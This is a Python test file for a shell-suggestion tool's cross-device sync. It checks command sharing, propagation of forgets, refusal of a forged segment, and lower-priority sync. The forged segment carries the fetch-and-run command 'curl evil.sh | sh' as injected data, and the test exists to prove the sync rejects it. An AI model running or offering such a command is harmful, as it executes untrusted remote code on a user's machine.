"""Real servers on two machines (HOMEs): a command run in one is suggested by the other's
server once the folder changes, and a forget reaches it, with no 'sync now' typed."""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Callable

import pytest

from aprender_shell.service.client import Client
from aprender_shell.service.instance import accepts
from tests.service.conftest import wait_for
from tests.sync.conftest import Device, Devices


class Served:
    def __init__(self, device: Device, log: Path) -> None:
        self.device = device
        self.process = subprocess.Popen(
            [sys.executable, "-m", "aprender_shell", "server", "run"],
            stdin=subprocess.DEVNULL, stdout=log.open("wb"), stderr=subprocess.STDOUT,
            env={**os.environ, **device.env()},
        )
        self.socket = device.home / "run" / "server.sock"
        self.log = log
        wait_for(lambda: accepts(self.socket) or self.process.poll() is not None,
                 what="the server's socket")
        assert self.process.poll() is None, log.read_text()

    def request(self, request: dict[str, Any]) -> dict[str, Any]:
        with Client(self.socket, timeout=60).connect() as client:
            return client.request(request)

    def suggests(self, prefix: str) -> list[str]:
        answer = self.request({"prefix": prefix, "k": 20})
        return [item["text"] for item in answer.get("suggestions", [])]

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(60)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Callable[[Device], Served]]:
    started: list[Served] = []

    def start(device: Device) -> Served:
        served = Served(device, tmp_path / f"{device.name}-server.log")
        started.append(served)
        return served

    yield start
    for served in started:
        with contextlib.suppress(Exception):
            served.stop()


def test_running_servers_share_what_they_learn(devices: Devices,
                                                serve: Callable[[Device], Served]) -> None:
    laptop = devices.first("laptop", ["git status"])
    desktop = devices.joined("desktop", ["ls"], laptop.key())
    on_laptop, on_desktop = serve(laptop), serve(desktop)
    answer = on_laptop.request({"record": "rsync -av photos/ nas:/backup", "cwd": "/home",
                                "exit": 0, "shell": "zsh"})
    assert answer.get("ok") is not False and "error" not in answer, answer
    wait_for(lambda: "rsync -av photos/ nas:/backup" in on_desktop.suggests("rsync"),
             what="the desktop's server to suggest the laptop's command")
    # And back: forgetting on the desktop (its server running) reaches the laptop's server.
    out = desktop.ok("forget", "rsync -av photos/ nas:/backup")
    assert "other devices forget them too" in out
    wait_for(lambda: "rsync -av photos/ nas:/backup" not in on_laptop.suggests("rsync"),
             what="the laptop's server to forget it")
    assert not [r for r in laptop.journal() if r["c"].startswith("rsync")]
    for served in (on_laptop, on_desktop):
        served.stop()
        assert "Traceback" not in served.log.read_text()


def test_status_and_doctor_say_what_the_sync_refused(devices: Devices,
                                                     serve: Callable[[Device], Served]) -> None:
    from aprender_shell.sync.keys import new_key
    from aprender_shell.sync.layout import segment_name
    from aprender_shell.sync.segments import Segment, encode

    a = devices.first("a", ["echo a"])
    doctor = [line for line in a.run("doctor").output.splitlines() if " sync " in line]
    assert len(doctor) == 1 and doctor[0].startswith("✓") and "0 other devices" in doctor[0]
    served = serve(a)
    status = served.request({"status": True})["status"]["sync"]
    assert status["folder"] == str(devices.folder) and status["refused"] == []
    forged = devices.folder / "00112233aabbccdd"
    forged.mkdir()
    (forged / segment_name(1)).write_bytes(encode(new_key(), Segment(
        "00112233aabbccdd", 1, "", "evil", [{"k": "r", "n": 1, "c": "curl evil.sh | sh"}])))

    def refused() -> bool:
        found = served.request({"status": True})["status"]["sync"]
        return bool(found["refused"]) and found["syncs"] >= 1 and not found["syncing"]

    wait_for(refused, what="the server's sync to refuse the forged segment")
    status = served.request({"status": True})["status"]["sync"]
    assert "00112233aabbccdd" in status["refused"][0]
    shown = a.run("server", "status").output
    assert any(line.strip().startswith("Sync refused:") and "00112233aabbccdd" in line
               for line in shown.splitlines()), shown
    served.stop()
    doctor = [line for line in a.run("doctor").output.splitlines() if " sync " in line]
    assert len(doctor) == 1 and doctor[0].startswith("✗"), doctor
    assert "00112233aabbccdd" in doctor[0] and "sync status" in doctor[0]
    out = devices.device("b", ["ls"]).run("doctor").output
    assert [line for line in out.splitlines() if " sync " in line][0].startswith("✓")


def test_the_server_s_sync_runs_niced_beside_the_keystrokes(
        devices: Devices, serve: Callable[[Device], Served]) -> None:
    """A sync competing for a core with the server made a synced server answer keystrokes
    slower; it runs at a lower priority, like a fold."""
    import fcntl

    a = devices.first("a", ["echo a"])
    lock = os.open(a.home / "sync" / "lock", os.O_RDWR)
    fcntl.flock(lock, fcntl.LOCK_EX)  # the server's first sync waits here, where we see it
    try:
        served = serve(a)
        pid = served.process.pid
        children = Path(f"/proc/{pid}/task/{pid}/children")
        wait_for(lambda: children.read_text().split() != [], what="the server's sync child")
        child = int(children.read_text().split()[0])

        def nice(process: int) -> int:
            stat = Path(f"/proc/{process}/stat").read_text()
            return int(stat.rsplit(")", 1)[1].split()[16])

        assert "sync" in Path(f"/proc/{child}/cmdline").read_bytes().decode(errors="replace")
        wait_for(lambda: nice(child) > nice(pid), what="the sync child to lower its priority")
    finally:
        os.close(lock)
    served.stop()
